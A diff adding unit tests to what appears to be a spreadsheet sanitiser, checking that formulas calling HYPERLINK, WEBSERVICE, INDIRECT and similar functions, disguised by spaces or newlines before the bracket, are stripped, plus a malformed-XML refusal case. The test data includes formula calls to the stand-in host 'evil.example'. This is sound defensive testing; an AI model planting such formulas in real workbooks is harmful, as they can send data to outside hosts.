@@ -170,6 +170,18 @@ class Formulas(unittest.TestCase):
         self.assertEqual((outcome.state, outcome.detail), ("ok", "verified"))
         self.assertEqual(book_checks.formulas(outcome.data), [new or old for old, new in self.KEPT.items()])
 
+    def test_a_name_of_a_function_is_never_called(self):
+        """LibreOffice calls one whose name and bracket stand apart."""
+        functions = ("HYPERLINK", "_xlfn.WEBSERVICE", "INDIRECT", "CELL", "INFO")
+        names = "".join(f'<definedName name="{one}" hidden="1">First!$A$1</definedName>' for one in functions)
+        calls = [f'{one}{apart}("http://evil.example/","x")' for one in functions for apart in (" ", "\n", "% ")]
+        calls += [f"SUM(A1:{call})" for call in calls]
+        rows = "".join(row(i, formula(f"A{i}", call)) for i, call in enumerate(calls, 1))
+        outcome = carry({"a": package(workbook([("First", sheet(rows))], names=names))})["a"]
+        self.assertEqual((outcome.state, outcome.detail), ("ok", "verified"))
+        self.assertEqual([], book_checks.formulas(outcome.data))
+        self.assertEqual(len(calls), outcome.removed["formula"])
+
     def test_none_stays_where_the_policy_wants_values(self):
         source = package(book_samples.report())
         kept, bare = carry({"a": source})["a"], carry({"a": source}, "formulas=values")["a"]
@@ -223,6 +235,7 @@ class Refusals(unittest.TestCase):
             "cut": whole[:-30], "cut-xml": changed(body[:-20]),
             "deep": changed(body.replace("<sheetData>", "<sheetData>" + deep)),
             "deep-cell": changed(body.replace("<t>", "<t>" + deep)),
+            "within": changed(body.replace("<sheetData>", "<mc><sheetData>").replace("</sheetData>", "</sheetData></mc>")),
             "twice": changed(body.replace("</worksheet>", "<sheetData/></worksheet>")),
             "entity": changed(body.replace(KEPT, "&evil;")), "crossed": changed(body.replace("</t></is>", "</is></t>")),
             "attribute": changed(body.replace('r="A1"', 'r="A1" r="A2"')), "quote": changed(body.replace('r="A1"', "r=A1")),
